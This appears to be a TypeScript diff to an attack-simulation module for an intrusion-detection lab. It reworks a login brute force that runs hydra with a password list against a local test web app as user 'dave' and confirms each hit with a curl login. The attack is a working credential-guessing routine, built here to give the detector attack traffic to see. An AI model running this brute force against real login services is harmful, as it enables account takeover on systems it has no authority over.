@@ -5,7 +5,7 @@
  * fails (a password not found, an escape that is refused) is still recorded: the attempt is
  * what the detector has to see.
  */
-import { mkdirSync, readFileSync } from 'node:fs';
+import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
 import path from 'node:path';
 import { ChidsError } from '../util/errors.js';
 import type { Sandbox } from './sandbox.js';
@@ -94,22 +94,50 @@ function runIn(ctx: AttackContext, cmd: string, args: string[], opts: { input?: 
 }
 
 const WEB = 'http://127.0.0.1:8080';
+/** hydra's parallel logins (-t). */
+const HYDRA_TASKS = 4;
 
 const bruteforce: Attack = {
   name: 'bruteforce',
   cwe: 'CWE-307',
   title: 'login brute force with hydra (no rate limit or lockout on /login)',
   victims: ['web'],
-  programs: ['hydra'],
+  programs: ['hydra', 'curl'],
   async run(ctx) {
-    const list = path.join(labDir(), 'attacks', 'passwords.txt');
-    const args = ['-l', 'dave', '-P', list, '-s', '8080', '-t', '4', '-f', '-I', '-w', '10', '127.0.0.1', 'http-post-form', '/login:user=^USER^&pass=^PASS^:F=Invalid username'];
-    const r = await runIn(ctx, 'hydra', args);
-    const found = /login:\s*(\S+)\s+password:\s*(\S+)/.exec(r.stdout);
+    const words = readFileSync(path.join(labDir(), 'attacks', 'passwords.txt'), 'utf8').split('\n').filter((w) => w.length > 0);
+    const commands: string[] = [];
+    const falseHits: string[] = [];
+    let timedOut = false;
+    let list = words;
+    // hydra takes any answer without the failure text for a hit, an error page of a loaded
+    // victim included (seen: "found dave:monkey" after 25 requests). Like an attacker, check a
+    // hit with one login of our own and go on with the rest of the list when it is wrong.
+    for (let round = 0; round < words.length && list.length > 0 && Date.now() < ctx.deadlineMs - 500; round++) {
+      const file = path.join(ctx.dir, `passwords-${round}.txt`);
+      writeFileSync(file, list.join('\n') + '\n');
+      const args = ['-l', 'dave', '-P', file, '-s', '8080', '-t', String(HYDRA_TASKS), '-f', '-I', '-w', '10', '127.0.0.1', 'http-post-form', '/login:user=^USER^&pass=^PASS^:F=Invalid username'];
+      commands.push(shown('hydra', args).split(ctx.dir).join('.'));
+      const r = await runIn(ctx, 'hydra', args);
+      timedOut ||= r.timedOut;
+      const found = /login:\s*(\S+)\s+password:\s*(\S+)/.exec(r.stdout);
+      if (!found) break;
+      const check = ['-s', '-m', '5', '-o', '/dev/null', '-w', '%{http_code}', '--data-urlencode', `user=${found[1]}`, '--data-urlencode', `pass=${found[2]}`, `${WEB}/login`];
+      commands.push(shown('curl', check));
+      const c = await runIn(ctx, 'curl', check);
+      // A good login answers with a redirect to /account; a wrong one with the form again (200).
+      if (c.stdout.trim() === '302') {
+        return { succeeded: true, detail: `found ${found[1]}:${found[2]}${falseHits.length ? ` (after ${falseHits.length} false hit${falseHits.length > 1 ? 's' : ''} of hydra: ${falseHits.join(', ')})` : ''}`, commands };
+      }
+      falseHits.push(found[2]);
+      // hydra tries HYDRA_TASKS passwords at a time: go on from just before the false hit, so
+      // that none in flight with it is skipped, without the false hits.
+      const at = list.indexOf(found[2]);
+      list = list.slice(Math.max(0, at - HYDRA_TASKS)).filter((w) => !falseHits.includes(w));
+    }
     return {
-      succeeded: found !== null,
-      detail: found ? `found ${found[1]}:${found[2]}` : `no password found${r.timedOut ? ' (stopped at the deadline)' : ''}`,
-      commands: [shown('hydra', args)],
+      succeeded: false,
+      detail: `no password found${falseHits.length ? ` (hydra's false hits: ${falseHits.join(', ')})` : ''}${timedOut ? ' (stopped at the deadline)' : ''}`,
+      commands,
     };
   },
 };
